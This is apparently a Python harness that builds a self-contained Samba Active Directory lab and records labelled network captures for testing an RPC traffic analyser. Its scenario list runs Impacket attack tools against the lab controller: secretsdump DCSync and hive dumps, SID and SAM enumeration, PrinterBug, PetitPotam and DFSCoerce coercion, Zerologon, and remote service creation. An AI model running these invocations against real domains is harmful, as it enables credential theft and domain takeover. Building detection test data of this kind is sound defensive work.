"""The AD lab, run inside its own network, mount and UTS namespaces (make.sh
starts it under `unshare --net --mount --uts --fork`; do not run it directly).

Usage: lab.py OUTDIR [SCENARIO...]

Brings up loopback, names the host dc1, bind-mounts Samba's state folders,
/etc/hosts, /etc/resolv.conf and /etc/krb5.conf from a temporary folder (the
system's /etc/samba is never touched), provisions a Samba AD DC (fixed SIDs,
GUIDs and passwords: labconf.py), starts `samba --foreground`, runs every
scenario under its own tcpdump, writes OUTDIR/<name>.pcap, .truth.tsv and
.keys plus OUTDIR/lab.keytab, and stops every process of the namespace it
started, by pid.

Debugging only (never for committed output): LAB_KEEP_LOGS=DIR copies Samba's
and the clients' logs there (they hold the dumped hashes and SMB3 keys);
LAB_HOLD=PATH keeps the DC up after start-up until PATH.stop exists;
LAB_NAMES_LOOSE=1 writes '?' for names labnames.py lacks and lists them in
OUTDIR/missing-names.txt.
"""

import glob
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

import labconf as conf  # noqa: E402
from labnames import ENDPOINTS, OPERATIONS  # noqa: E402

VENV_PY = sys.executable
EXAMPLES = os.path.dirname(VENV_PY)  # Impacket's example scripts sit beside the venv's python
LISTENER = conf.LISTENER
CRED = "%s\\%s%%%s" % (conf.DOMAIN, conf.ADMIN, conf.ADMIN_PASSWORD)
CRED_KRB = "%s@%s%%%s" % (conf.ADMIN, conf.REALM, conf.ADMIN_PASSWORD)
IMPACKET_TARGET = "%s/%s:%s@%s" % (conf.DOMAIN, conf.ADMIN, conf.ADMIN_PASSWORD, conf.DC_IP)
IMPACKET_KRB_TARGET = "%s/%s:%s@%s" % (conf.REALM, conf.ADMIN, conf.ADMIN_PASSWORD, conf.DC_FQDN)

COLUMNS = [
    "call_index", "source", "transport", "smb_dialect", "named_pipe_or_port", "uuid", "endpoint",
    "opnum", "operation", "smb_auth", "auth_type", "auth_level", "encryption", "key_arg",
    "key_value",
]

# Samba's DCE-RPC TCP ports (epmapper and the dynamic endpoints the DC opens,
# in a fixed order). Found again at start-up and checked.
RPC_PORTS = [135, 49152, 49153, 49154]
DRS_PORT = 49153
PORTS_FILTER = "port 88 or (tcp and (port 135 or port 445 or portrange 49152-49154))"

DRS_RESPONSE_KEEP = 128  # bytes of TCP payload kept per server segment of a DRS clone


def log(msg):
    print("lab: " + msg, flush=True)


def run(cmd, **kw):
    kw.setdefault("check", True)
    return subprocess.run(cmd, **kw)


class Lab:
    def __init__(self, out):
        self.out = out
        self.work = tempfile.mkdtemp(prefix="adlab.")
        self.samba_dir = os.path.join(self.work, "samba")
        self.conf = os.path.join(self.samba_dir, "etc", "smb.conf")
        self.logdir = os.path.join(self.work, "log")
        self.cwd = os.path.join(self.work, "cwd")
        self.samba = None
        os.makedirs(self.logdir)
        os.makedirs(self.cwd)
        self.env = dict(os.environ)
        self.env["KRB5_CONFIG"] = os.path.join(self.work, "krb5.conf")
        self.env.pop("KRB5CCNAME", None)

    # -- namespace --------------------------------------------------------------

    def isolate(self):
        if [name for _, name in socket.if_nameindex()] != ["lo"]:
            raise SystemExit("lab.py must run in its own network namespace (use make.sh)")
        run(["mount", "--make-rprivate", "/"])
        run(["ip", "link", "set", "lo", "up"])
        run(["hostname", conf.DC_NAME])
        fs = os.path.join(self.work, "fs")
        for d in ["/etc/samba", "/var/lib/samba", "/var/cache/samba", "/var/log/samba", "/run/samba"]:
            if os.path.isdir(d):
                os.makedirs(fs + d)
                run(["mount", "--bind", fs + d, d])
        files = {
            "/etc/hosts": "127.0.0.1\tlocalhost\n%s\t%s %s\n" % (conf.DC_IP, conf.DC_FQDN, conf.DC_NAME),
            "/etc/resolv.conf": "nameserver %s\nsearch %s\n" % (conf.DC_IP, conf.DNS_DOMAIN),
            "/etc/krb5.conf": (
                "[libdefaults]\n\tdefault_realm = %s\n\tdns_lookup_realm = false\n"
                "\tdns_lookup_kdc = false\n\trdns = false\n"
                "[realms]\n\t%s = {\n\t\tkdc = %s\n\t}\n"
                "[domain_realm]\n\t.%s = %s\n\t%s = %s\n"
                % (conf.REALM, conf.REALM, conf.DC_IP, conf.DNS_DOMAIN, conf.REALM, conf.DNS_DOMAIN, conf.REALM)
            ),
        }
        for path, text in files.items():
            mine = os.path.join(self.work, os.path.basename(path))
            with open(mine, "w") as f:
                f.write(text)
            if os.path.exists(path):
                run(["mount", "--bind", mine, path])

    # -- Samba ------------------------------------------------------------------

    def provision(self):
        log("provisioning %s (%s)" % (conf.REALM, conf.DOMAIN))
        with open(os.path.join(self.logdir, "provision.log"), "w") as f:
            run([
                "samba-tool", "domain", "provision",
                "--realm=" + conf.REALM, "--domain=" + conf.DOMAIN, "--server-role=dc",
                "--dns-backend=SAMBA_INTERNAL", "--adminpass=" + conf.ADMIN_PASSWORD,
                "--machinepass=" + conf.MACHINE_PASSWORD,
                "--dnspass=" + conf.DNS_PASSWORD, "--host-name=" + conf.DC_NAME,
                "--host-ip=" + conf.DC_IP, "--targetdir=" + self.samba_dir,
                "--domain-sid=" + conf.DOMAIN_SID, "--domain-guid=" + conf.DOMAIN_GUID,
                "--ntds-guid=" + conf.NTDS_GUID, "--invocationid=" + conf.INVOCATION_ID,
                "--option=interfaces=lo", "--option=bind interfaces only=yes",
                "--option=disable netbios=yes",
            ], stdout=f, stderr=subprocess.STDOUT, env=self.env)
        with open(self.conf) as f:
            text = f.read()
        # No DNS forwarder (provision points it at ourselves), no dynamic DNS
        # updates, SMB3 session keys in the log, fewer worker processes.
        text = re.sub(r"^\s*dns forwarder = .*\n", "", text, flags=re.M)
        extra = [
            "server services = -dnsupdate",
            "debug encryption = yes",
            "log level = 1",
            "log file = %s/log.%%m" % self.logdir,
            "max log size = 0",
            "pid directory = %s/run" % self.work,
            "ncalrpc dir = %s/run/ncalrpc" % self.work,
            "prefork children = 1",
        ]
        text = text.replace("[global]\n", "[global]\n" + "".join("\t%s\n" % e for e in extra), 1)
        with open(self.conf, "w") as f:
            f.write(text)
        os.makedirs(os.path.join(self.work, "run"))
        if os.path.isdir("/etc/samba"):
            os.symlink(self.conf, "/etc/samba/smb.conf")
        # Keys secretsdump reads the boot key from, and the hives it saves
        # (Samba's registry has no SAM or SECURITY hive).
        for key in ["SYSTEM\\CurrentControlSet\\Control\\Lsa\\" + k for k in ("JD", "Skew1", "GBG", "Data")] + ["SAM", "SECURITY"]:
            run(["net", "-s", self.conf, "registry", "createkey", "HKLM\\" + key],
                stdout=subprocess.DEVNULL, env=self.env)

    def start(self):
        log("starting samba")
        out = open(os.path.join(self.logdir, "samba.out"), "w")
        self.samba = subprocess.Popen(
            ["samba", "--foreground", "--no-process-group", "-s", self.conf],
            stdout=out, stderr=subprocess.STDOUT, env=self.env,
        )
        deadline = time.time() + 90
        for port in [88, 135, 389, 445] + RPC_PORTS[1:]:
            while not _listening(port):
                if self.samba.poll() is not None:
                    raise RuntimeError("samba exited: see %s" % out.name)
                if time.time() > deadline:
                    raise RuntimeError("samba did not open port %d" % port)
                time.sleep(0.2)
        listening = _rpc_ports()
        if listening != RPC_PORTS[1:]:
            raise RuntimeError("samba's dynamic RPC ports are %r, expected %r" % (listening, RPC_PORTS[1:]))
        with open(os.path.join(self.logdir, "spnupdate.log"), "w") as f:
            run(["samba_spnupdate", "-s", self.conf], stdout=f, stderr=subprocess.STDOUT, env=self.env)
        keytab = os.path.join(self.out, "lab.keytab")
        if os.path.exists(keytab):
            os.unlink(keytab)
        run(["samba-tool", "domain", "exportkeytab", keytab, "-s", self.conf],
            stdout=subprocess.DEVNULL, env=self.env)
        os.chmod(keytab, 0o644)

    def require_encryption(self):
        with open(self.conf) as f:
            text = f.read()
        text = text.replace("[global]\n", "[global]\n\tserver smb encrypt = required\n", 1)
        with open(self.conf, "w") as f:
            f.write(text)
        run(["smbcontrol", "-s", self.conf, "smbd", "reload-config"], stdout=subprocess.DEVNULL, env=self.env)
        time.sleep(1)

    def stop(self):
        """Stop samba, then every other process left in this network namespace
        (samba-dcerpcd, rpcd_*, samba-bgqd, winbindd... start on demand and
        leave samba's process tree), by pid."""
        if self.samba is not None and self.samba.poll() is None:
            self.samba.terminate()
            try:
                self.samba.wait(timeout=20)
            except subprocess.TimeoutExpired:
                self.samba.kill()
                self.samba.wait()
        for sig in (signal.SIGTERM, signal.SIGKILL):
            left = _namespace_processes()
            for pid, name in left:
                log("stopping %s (pid %d)" % (name, pid))
                try:
                    os.kill(pid, sig)
                except ProcessLookupError:
                    pass
            deadline = time.time() + 10
            while _namespace_processes() and time.time() < deadline:
                time.sleep(0.2)
        left = _namespace_processes()
        if left:
            raise RuntimeError("processes still running: %r" % left)

    def cleanup(self):
        keep = os.environ.get("LAB_KEEP_LOGS")
        if keep:
            # Debugging only: the logs hold the dumped hashes and the SMB3 keys.
            shutil.rmtree(keep, ignore_errors=True)
            shutil.copytree(self.logdir, keep)
        shutil.rmtree(self.work, ignore_errors=True)

    # -- Samba's SMB3 keys -----------------------------------------------------

    def log_offsets(self):
        return {p: os.path.getsize(p) for p in glob.glob(os.path.join(self.logdir, "log.*"))}

    def new_smb3_keys(self, offsets):
        """SMB3 sessions set up since `offsets`, from `debug encryption` blocks:
        {session id (wire bytes, hex): (session key, c2s key, s2c key)}."""
        keys = {}
        for path in glob.glob(os.path.join(self.logdir, "log.*")):
            with open(path, "rb") as f:
                f.seek(offsets.get(path, 0))
                text = f.read().decode("utf-8", "replace")
            for block in text.split("debug encryption: dumping generated session keys")[1:]:
                fields = _dump_fields(block)
                if "Session Id" in fields and "Session Key" in fields:
                    # Session.SessionKey is the first 16 bytes of the GSS key
                    # (MS-SMB2 3.2.5.3.1); Kerberos gives 32. ServerIn is the
                    # client-to-server key, ServerOut the server-to-client one.
                    keys[fields["Session Id"]] = (
                        fields["Session Key"][:32], fields.get("ServerIn Key", ""), fields.get("ServerOut Key", "")
                    )
        return keys


DUMP_LINE = re.compile(r"^\s*(?:(Session Id|Session Key|Signing Key|App Key|ServerIn Key|ServerOut Key)\s+)?"
                       r"\[([0-9A-F]{4})\]((?: {1,3}[0-9A-F]{2}){1,16})")


def _dump_fields(block):
    """The hex fields of one `debug encryption` block of Samba's log: each is
    dump_data() output, '[0000] 9E 34 14 BA ...  ascii', continued on lines
    starting '[0010]' for keys longer than 16 bytes."""
    fields, current = {}, None
    for line in block.splitlines():
        m = DUMP_LINE.match(line)
        if not m:
            if line.strip() and not line.startswith(" "):
                break  # the next log entry
            current = None
            continue
        name, offset, hexbytes = m.groups()
        if name:
            current = name
            fields[name] = ""
        if current is None or int(offset, 16) != len(fields[current]) // 2:
            continue
        fields[current] += "".join(hexbytes.split()).lower()
    return fields


def _listening(port):
    with socket.socket() as s:
        s.settimeout(0.5)
        return s.connect_ex((conf.DC_IP, port)) == 0


def _rpc_ports():
    out = run(["ss", "-Hltn4"], capture_output=True, text=True).stdout
    ports = sorted({int(line.split()[3].rsplit(":", 1)[1]) for line in out.splitlines()})
    return [p for p in ports if p >= 49152]


def _namespace_processes():
    """(pid, name) of every process in this network namespace except this
    process and its ancestors."""
    mine = os.readlink("/proc/self/ns/net")
    keep = set()
    pid = os.getpid()
    while pid > 1:
        keep.add(pid)
        with open("/proc/%d/stat" % pid) as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in keep:
            continue
        try:
            if os.readlink("/proc/%s/ns/net" % entry) != mine:
                continue
            with open("/proc/%s/comm" % entry) as f:
                found.append((int(entry), f.read().strip()))
        except (FileNotFoundError, ProcessLookupError, PermissionError):
            continue
    return found


# -- capture ----------------------------------------------------------------------


def start_tcpdump(path):
    proc = subprocess.Popen(
        ["tcpdump", "-i", "lo", "-Z", "root", "--immediate-mode", "-U", "-s", "0", "-w", path, PORTS_FILTER],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
    )
    line = proc.stderr.readline()
    if "listening" not in line:
        proc.kill()
        raise RuntimeError("tcpdump did not start: %s" % line)
    return proc


def stop_tcpdump(proc):
    time.sleep(0.5)
    os.kill(proc.pid, signal.SIGINT)
    proc.wait(timeout=10)


def truncate_server_segments(path, port, keep):
    """Cut the TCP payload of every segment sent from `port` to `keep` bytes
    (pcap caplen < len, as a snap length does), except segments that start a
    DCE-RPC bind_ack or alter_context_resp (they carry the server's half of
    the authentication). The requests stay whole."""
    import struct

    with open(path, "rb") as f:
        data = f.read()
    magic = data[:4]
    endian = "<" if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    linktype = struct.unpack(endian + "I", data[20:24])[0]
    if linktype != 1:
        raise RuntimeError("%s: link type %d, expected Ethernet" % (path, linktype))
    out = [data[:24]]
    off = 24
    while off < len(data):
        sec, usec, incl, orig = struct.unpack(endian + "IIII", data[off : off + 16])
        frame = data[off + 16 : off + 16 + incl]
        off += 16 + incl
        cut = incl
        if len(frame) >= 34 and frame[12:14] == b"\x08\x00" and frame[23] == 6:
            ihl = (frame[14] & 0x0F) * 4
            tcp = 14 + ihl
            sport = struct.unpack(">H", frame[tcp : tcp + 2])[0]
            doff = (frame[tcp + 12] >> 4) * 4
            payload = tcp + doff
            if sport == port and incl > payload + keep:
                starts_ack = frame[payload : payload + 1] == b"\x05" and frame[payload + 2 : payload + 3] in (b"\x0c", b"\x0f")
                if not starts_ack:
                    cut = payload + keep
        out.append(struct.pack(endian + "IIII", sec, usec, cut, orig) + frame[:cut])
    with open(path, "wb") as f:
        f.write(b"".join(out))


# -- keys and tshark ------------------------------------------------------------------


def write_keys(path, name, smb3):
    from Cryptodome.Hash import MD4

    nt = MD4.new(conf.ADMIN_PASSWORD.encode("utf-16le")).hexdigest()
    lines = [
        "# rpcsift key file for %s.pcap (AD lab secrets, made for the purpose)" % name,
        "password %s\\%s %s" % (conf.DOMAIN, conf.ADMIN, conf.ADMIN_PASSWORD),
        "nt-hash %s\\%s %s" % (conf.DOMAIN, conf.ADMIN, nt),
        "keytab lab.keytab",
        "# smb3-key SESSION_ID SESSION_KEY C2S_KEY S2C_KEY: session id as on the wire (8 bytes,",
        "# little endian), Session.SessionKey, client-to-server and server-to-client",
        "# encryption keys, from Samba's log (debug encryption = yes)",
    ]
    for sesid in sorted(smb3):
        key, c2s, s2c = smb3[sesid]
        lines.append(" ".join(["smb3-key", sesid, key] + ([c2s, s2c] if c2s and s2c else [])))
    with open(path, "w") as f:
        f.write("\n".join(lines) + "\n")


def tshark_args(keys_path):
    """tshark options that decrypt with the keys of a key file."""
    args = ["-o", "kerberos.decrypt:TRUE"]
    base = os.path.dirname(keys_path)
    with open(keys_path) as f:
        for line in f:
            parts = line.split()
            if not parts or parts[0].startswith("#"):
                continue
            if parts[0] == "password":
                args += ["-o", "ntlmssp.nt_password:" + line.split(None, 2)[2].rstrip("\n")]
            elif parts[0] == "keytab":
                args += ["-K", os.path.join(base, parts[1])]
            elif parts[0] == "smb3-key":
                # Wireshark's record: session id, session key, server-to-client, client-to-server.
                s2c = parts[5] if len(parts) > 5 else ""
                c2s = parts[4] if len(parts) > 4 else ""
                args += ["-o", 'uat:smb2_seskey_list:%s,%s,"%s","%s"' % (parts[1], parts[2], s2c, c2s)]
    for port in RPC_PORTS[1:]:
        args += ["-d", "tcp.port==%d,dcerpc" % port]
    return args


def tshark_fields(pcap, keys, display_filter, fields):
    cmd = ["tshark", "-n", "-r", pcap] + tshark_args(keys) + ["-Y", display_filter, "-T", "fields",
           "-E", "separator=\t", "-E", "occurrence=a", "-E", "aggregator=|"]
    for f in fields:
        cmd += ["-e", f]
    done = subprocess.run(cmd, capture_output=True, text=True)
    if done.returncode != 0:
        raise RuntimeError("tshark failed on %s: %s" % (pcap, done.stderr.strip()))
    out = done.stdout
    rows = []
    for line in out.splitlines():
        cols = [c.split("|") if c else [] for c in line.split("\t")]
        if len(cols) != len(fields):
            raise RuntimeError("tshark line %r" % line)
        rows.append(cols)
    return rows


AUTH_TYPE_NAMES = {"9": "RPC_C_AUTHN_GSS_NEGOTIATE", "10": "RPC_C_AUTHN_WINNT", "16": "RPC_C_AUTHN_GSS_KERBEROS",
                   "68": "RPC_C_AUTHN_NETLOGON"}
AUTH_LEVEL_NAMES = {"2": "RPC_C_AUTHN_LEVEL_CONNECT", "4": "RPC_C_AUTHN_LEVEL_PKT",
                    "5": "RPC_C_AUTHN_LEVEL_PKT_INTEGRITY", "6": "RPC_C_AUTHN_LEVEL_PKT_PRIVACY"}
CIPHER_NAMES = {1: "aes-128-ccm", 2: "aes-128-gcm", 3: "aes-256-ccm", 4: "aes-256-gcm"}
DIALECT_NAMES = {0x0202: "2.0.2", 0x0210: "2.1", 0x0300: "3.0", 0x0302: "3.0.2", 0x0311: "3.1.1"}


REQUEST_FIELDS = [
    "tcp.stream", "tcp.dstport", "frame.protocols", "smb2.cmd", "smb2.flags.response", "smb2.msg_id", "smb2.fid",
    "smb2.filename", "smb2.dialect", "smb2.negotiate_context.cipher_id", "smb2.header.transform.flags.encrypted",
    "dcerpc.pkt_type", "dcerpc.cn_ctx_id", "dcerpc.cn_bind_to_uuid", "dcerpc.opnum", "dcerpc.cn_flags",
    "dcerpc.auth_type", "dcerpc.auth_level",
]
REQUEST_FILTER = (
    "dcerpc.pkt_type == 0 || dcerpc.pkt_type == 11 || dcerpc.pkt_type == 14 || smb2.cmd == 0 || smb2.cmd == 1"
    " || smb2.cmd == 5"
)


def tshark_requests(pcap, keys):
    """The DCE-RPC requests tshark decodes with the keys, in capture order, one
    per call (the PDU with the last fragment), as truth rows (key_arg '-').
    tests/ad_lab_truth.rs does the same in Rust."""
    ifaces = {}  # (stream, SMB2 handle or "", context id) -> interface UUID
    names, pipes = {}, {}  # CREATE request (stream, msg id) -> name; (stream, handle) -> pipe
    dialect, cipher, smb_auth = {}, {}, {}  # per TCP stream
    rows = []
    for frame in tshark_fields(pcap, keys, REQUEST_FILTER, REQUEST_FIELDS):
        f = dict(zip(REQUEST_FIELDS, frame))
        stream = f["tcp.stream"][0]
        layers = f["frame.protocols"][0].split(":")
        cmds, response = f["smb2.cmd"], f["smb2.flags.response"]
        handle = f["smb2.fid"][0] if f["smb2.fid"] else ""
        if cmds == ["0"] and response == ["1"]:
            d = f["smb2.dialect"]
            if d and int(d[0], 0) != 0x02FF:  # 0x02FF: SMB 2.??? answer to an SMB1 negotiate
                dialect[stream] = DIALECT_NAMES[int(d[0], 0)]
            if f["smb2.negotiate_context.cipher_id"]:
                cipher[stream] = CIPHER_NAMES[int(f["smb2.negotiate_context.cipher_id"][0], 0)]
        if cmds == ["1"] and response == ["0"]:
            if "ntlmssp" in layers:
                smb_auth[stream] = "ntlm"
            elif "kerberos" in layers or "spnego-krb5" in layers:
                smb_auth[stream] = "kerberos"
        if cmds == ["5"]:
            msg = f["smb2.msg_id"][0]
            if response == ["0"] and f["smb2.filename"]:
                names[(stream, msg)] = f["smb2.filename"][0].lower().lstrip("\\")
            elif response == ["1"] and handle and (stream, msg) in names:
                pipes[(stream, handle)] = names[(stream, msg)]
        types = f["dcerpc.pkt_type"]
        if not types:
            continue
        if any(t in ("11", "14") for t in types):
            for ctx, uuid in zip(f["dcerpc.cn_ctx_id"], f["dcerpc.cn_bind_to_uuid"]):
                ifaces[(stream, handle, ctx)] = uuid.lower()
            continue
        smb = "smb2" in layers
        for i, ptype in enumerate(types):
            if ptype != "0" or int(f["dcerpc.cn_flags"][i], 16) & 0x02 == 0:
                continue  # not the last fragment: the call completes later
            level = f["dcerpc.auth_level"][i] if i < len(f["dcerpc.auth_level"]) else ""
            enc = []
            if smb and f["smb2.header.transform.flags.encrypted"]:
                enc.append("smb3-" + cipher[stream])
            if level == "6":
                enc.append("dce-privacy")
            smb_dialect = dialect.get(stream, "-") if smb else "-"
            rows.append({
                "transport": ("smb3" if smb_dialect.startswith("3.") else "smb2") if smb else "tcp",
                "smb_dialect": smb_dialect,
                "named_pipe_or_port": pipes[(stream, handle)] if smb else f["tcp.dstport"][0],
                "uuid": ifaces[(stream, handle if smb else "", f["dcerpc.cn_ctx_id"][i])],
                "opnum": int(f["dcerpc.opnum"][i]),
                "smb_auth": smb_auth.get(stream, "-") if smb else "-",
                "auth_type": AUTH_TYPE_NAMES[f["dcerpc.auth_type"][i]] if level else "-",
                "auth_level": AUTH_LEVEL_NAMES[level] if level else "-",
                "encryption": "+".join(enc) or "none",
                "key_arg": "-",
                "key_value": "-",
            })
    return rows


def write_truth(path, rows, source):
    with open(path, "w") as f:
        f.write("\t".join(COLUMNS) + "\n")
        for i, row in enumerate(rows, 1):
            uuid = row["uuid"]
            endpoint = ENDPOINTS.get(uuid)
            operation = OPERATIONS.get((uuid, row["opnum"]))
            if (endpoint is None or operation is None) and os.environ.get("LAB_NAMES_LOOSE"):
                with open(os.path.join(os.path.dirname(path), "missing-names.txt"), "a") as m:
                    m.write("%s\t%s\n" % (uuid, row["opnum"]))
                endpoint, operation = endpoint or "?", operation or "?"
            if endpoint is None or operation is None:
                raise RuntimeError("no Zeek name for %s opnum %s: add it to labnames.py" % (uuid, row["opnum"]))
            full = dict(row, call_index=str(i), source=source, endpoint=endpoint, operation=operation,
                        opnum=str(row["opnum"]))
            f.write("\t".join(full[c] for c in COLUMNS) + "\n")


# -- scenarios --------------------------------------------------------------------


def impacket(target, *args, smb="3", ccache=None):
    return ("impacket", target, list(args), smb, ccache)


def samba(*argv):
    return ("samba", list(argv))


def kinit():
    """MIT kinit for the administrator into the scenario's credential cache
    (Samba's clients over ncacn_ip_tcp take Kerberos tickets from a ccache)."""
    return ("kinit",)


def secretsdump(*args):
    return os.path.join(EXAMPLES, "secretsdump.py"), *args


SCENARIOS = [
    # name, client steps, post-processing
    ("dcsync_ntlm", [impacket(*secretsdump("-just-dc", IMPACKET_TARGET))]),
    ("dcsync_krbtgt_ntlm", [impacket(*secretsdump("-just-dc-user", "LAB/krbtgt", IMPACKET_TARGET))]),
    ("dcsync_kerberos", [impacket(*secretsdump("-just-dc", "-k", "-dc-ip", conf.DC_IP, IMPACKET_KRB_TARGET))]),
    ("dcsync_krbtgt_kerberos", [
        impacket(os.path.join(EXAMPLES, "getTGT.py"), "-dc-ip", conf.DC_IP,
                 "%s/%s:%s" % (conf.REALM, conf.ADMIN, conf.ADMIN_PASSWORD)),
        impacket(*secretsdump("-just-dc-user", "LAB/krbtgt", "-k", "-no-pass", "-dc-ip", conf.DC_IP,
                              "%s/%s@%s" % (conf.REALM, conf.ADMIN, conf.DC_FQDN)), ccache="Administrator.ccache"),
    ]),
    ("hive_secretsdump", [impacket(*secretsdump(IMPACKET_TARGET))]),
    ("hive_regsave", [impacket(os.path.join(EXAMPLES, "reg.py"), IMPACKET_TARGET, "save", "-keyName", "HKLM\\SAM",
                               "-o", "\\\\%s\\share" % LISTENER, smb="2.1")]),
    ("enum_lookupsid", [impacket(os.path.join(EXAMPLES, "lookupsid.py"), IMPACKET_TARGET, "1200", smb="2.1")]),
    ("enum_samrdump_kerberos", [impacket(os.path.join(EXAMPLES, "samrdump.py"), "-k", "-dc-ip", conf.DC_IP,
                                         IMPACKET_KRB_TARGET)]),
    ("enum_rpcclient", [samba("rpcclient", "--use-kerberos=off", "-U", CRED, "-c", "enumdomusers;lsaquery",
                              "ncacn_np:" + conf.DC_FQDN)]),
    ("discovery_srvsvc_wkssvc", [impacket("clients:discovery", smb="2.1")]),
    ("coerce_printerbug", [impacket("clients:printerbug", LISTENER, smb="2.1")]),
    ("coerce_petitpotam", [impacket("clients:petitpotam", LISTENER, "no", smb="2.1")]),
    ("coerce_petitpotam_privacy", [impacket("clients:petitpotam", LISTENER, "yes", smb="2.1")]),
    ("coerce_dfscoerce", [impacket("clients:dfscoerce", LISTENER)]),
    ("zerologon_tcp", [impacket("clients:zerologon", "4")]),
    ("svcctl_create_smb21", [impacket("clients:svcctl_create", "LabSvc21", smb="2.1")]),
    ("svcctl_create_smb3", [impacket("clients:svcctl_create", "LabSvc3")]),
    ("drs_clone_kerberos", [samba("samba-tool", "drs", "clone-dc-database", conf.DNS_DOMAIN, "--server=" + conf.DC_FQDN,
                                  "--targetdir={work}/clone-krb", "--use-kerberos=required", "-U", CRED_KRB)]),
    ("drs_clone_ntlm", [samba("samba-tool", "drs", "clone-dc-database", conf.DNS_DOMAIN, "--server=" + conf.DC_FQDN,
                              "--targetdir={work}/clone-ntlm", "--use-kerberos=off", "-U", CRED)]),
    ("rpcclient_tcp_seal_kerberos", [kinit(), samba("rpcclient", "--use-kerberos=required", "-U", CRED_KRB,
                                                    "-c", "enumdomusers;lsaquery",
                                                    "ncacn_ip_tcp:%s[seal,krb5]" % conf.DC_FQDN)]),
    ("rpcclient_smb3_gcm", [samba("rpcclient", "--use-kerberos=off", "--client-protection=encrypt", "-U", CRED,
                                  "-c", "enumdomusers;netshareenumall", "ncacn_np:" + conf.DC_FQDN)]),
    # Last: the server requires encryption from here on.
    ("smb_encrypt_required", [
        samba("rpcclient", "--use-kerberos=required", "-U", CRED_KRB, "-c", "srvinfo;enumdomusers",
              "ncacn_np:" + conf.DC_FQDN),
        samba("net", "rpc", "share", "list", "--use-kerberos=off", "-S", conf.DC_FQDN, "-U", CRED),
    ]),
]

DRS_CLONES = {"drs_clone_kerberos", "drs_clone_ntlm"}


def run_scenario(lab, name, steps):
    pcap = os.path.join(lab.out, name + ".pcap")
    rows_path = os.path.join(lab.work, name + ".jsonl")
    keys_path = os.path.join(lab.out, name + ".keys")
    if name == "smb_encrypt_required":
        lab.require_encryption()
    offsets = lab.log_offsets()
    dump = start_tcpdump(pcap)
    sources = set()
    samba_env = dict(lab.env)
    client_log = open(os.path.join(lab.logdir, name + ".client.log"), "a")
    try:
        for step in steps:
            if step[0] == "kinit":
                samba_env["KRB5CCNAME"] = "FILE:" + os.path.join(lab.work, name + ".ccache")
                run(["kinit", "%s@%s" % (conf.ADMIN, conf.REALM)], input=conf.ADMIN_PASSWORD + "\n", text=True,
                    env=samba_env, stdout=client_log, stderr=subprocess.STDOUT, timeout=60)
                continue
            if step[0] == "impacket":
                _, target, args, smb, ccache = step
                env = dict(lab.env)
                if smb == "2.1":
                    env["LAB_SMB_DIALECT"] = "2.1"
                if ccache:
                    env["KRB5CCNAME"] = os.path.join(lab.cwd, ccache)
                cmd = [VENV_PY, os.path.join(HERE, "labrun.py"), rows_path, name, "--", target] + args
                sources.add("impacket")
            else:
                env = samba_env
                cmd = [a.format(work=lab.work) for a in step[1]] + ["-s", lab.conf]
                sources.add("tshark-keys")
            client_log.flush()
            rc = subprocess.run(cmd, cwd=lab.cwd, env=env, stdout=client_log, stderr=subprocess.STDOUT,
                                timeout=300).returncode
            if rc != 0:
                # Refused calls make some clients exit non-zero; what matters
                # is what went on the wire (checked below: no empty truth).
                log("%s: %s exited %d" % (name, os.path.basename(cmd[0] if step[0] == "samba" else target), rc))
    finally:
        stop_tcpdump(dump)
        client_log.close()
    time.sleep(0.5)
    smb3 = lab.new_smb3_keys(offsets)
    seen = set()
    for (sesids,) in tshark_fields(pcap, os.devnull, "smb2", ["smb2.sesid"]):
        seen.update(int(s, 16) for s in sesids)
    smb3 = {k: v for k, v in smb3.items() if int.from_bytes(bytes.fromhex(k), "little") in seen}
    write_keys(keys_path, name, smb3)
    if name in DRS_CLONES:
        truncate_server_segments(pcap, DRS_PORT, DRS_RESPONSE_KEEP)
    decoded = tshark_requests(pcap, keys_path)
    if not decoded:
        raise RuntimeError("%s: no DCE-RPC request in the capture" % name)
    if sources == {"impacket"}:
        with open(rows_path) as f:
            rows = [json.loads(line) for line in f]
        compare(name, rows, decoded)
        write_truth(os.path.join(lab.out, name + ".truth.tsv"), rows, "impacket")
    elif sources == {"tshark-keys"}:
        write_truth(os.path.join(lab.out, name + ".truth.tsv"), decoded, "tshark-keys")
    else:
        raise RuntimeError("%s mixes Impacket and Samba clients" % name)
    os.chmod(pcap, 0o644)
    log("%-28s %4d calls %8d bytes %d SMB3 sessions" % (name, len(decoded), os.path.getsize(pcap), len(smb3)))


SAME = ["transport", "smb_dialect", "named_pipe_or_port", "uuid", "opnum", "smb_auth", "auth_type", "auth_level",
        "encryption"]


def compare(name, rows, decoded):
    """The Impacket hook's rows against tshark's decode with the keys: the same
    requests, in the same order."""
    a = [tuple(r[c] for c in SAME) for r in rows]
    b = [tuple(r[c] for c in SAME) for r in decoded]
    if a != b:
        for i, (x, y) in enumerate(zip(a, b)):
            if x != y:
                log("%s: first difference at call %d:\n  impacket %r\n  tshark   %r" % (name, i + 1, x, y))
                break
        raise RuntimeError("%s: %d requests recorded, tshark decodes %d (or they differ)" % (name, len(a), len(b)))


def main():
    out = os.path.abspath(sys.argv[1])
    only = set(sys.argv[2:])
    os.makedirs(out, exist_ok=True)
    lab = Lab(out)
    try:
        lab.isolate()
        lab.provision()
        lab.start()
        hold = os.environ.get("LAB_HOLD")
        if hold:
            # Debugging only: keep the DC up until HOLD.stop exists (enter with
            # nsenter -t PID -n -m -u; PID and the smb.conf path are in HOLD.ready).
            with open(hold + ".ready", "w") as f:
                f.write("%d %s\n" % (os.getpid(), lab.conf))
            while not os.path.exists(hold + ".stop"):
                time.sleep(1)
        for name, steps in SCENARIOS:
            if only and name not in only:
                continue
            run_scenario(lab, name, steps)
    finally:
        lab.stop()
        lab.cleanup()


if __name__ == "__main__":
    main()
